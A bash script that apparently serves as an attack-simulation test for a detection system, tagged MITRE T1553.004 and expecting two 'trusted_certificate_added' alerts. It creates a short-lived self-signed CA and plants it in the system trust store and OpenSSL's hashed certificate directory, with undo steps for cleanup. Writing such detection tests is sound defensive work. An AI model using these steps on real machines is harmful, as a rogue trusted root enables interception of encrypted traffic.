#!/bin/bash
# desc: an attacker's certificate authority made trusted: dropped into /usr/local/share/ca-certificates (what update-ca-certificates picks up) and linked by hash into /etc/ssl/certs (what OpenSSL reads directly)
# mitre: T1553.004
# expect: trusted_certificate_added*2
source "$ATTACK_LIB"

openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj "/CN=$(tmpname)" \
  -keyout "$ATTACK_TMP/ca.key" -out "$ATTACK_TMP/ca.crt" 2>/dev/null

# The way the docs say to add a CA (update-ca-certificates is not run: it
# would rebuild the machine's bundle).
dst=/usr/local/share/ca-certificates/$(tmpname).crt
undo "rm -f $dst"
cp "$ATTACK_TMP/ca.crt" "$dst"

# OpenSSL's hashed directory, no tool needed: <subject hash>.N
h=$(openssl x509 -hash -noout -in "$ATTACK_TMP/ca.crt")
for n in 0 1 2 3 4 5 6 7 8 9; do
  [ -e "/etc/ssl/certs/$h.$n" ] || [ -L "/etc/ssl/certs/$h.$n" ] && continue
  undo "rm -f /etc/ssl/certs/$h.$n"
  ln -s "$ATTACK_TMP/ca.crt" "/etc/ssl/certs/$h.$n"
  break
done
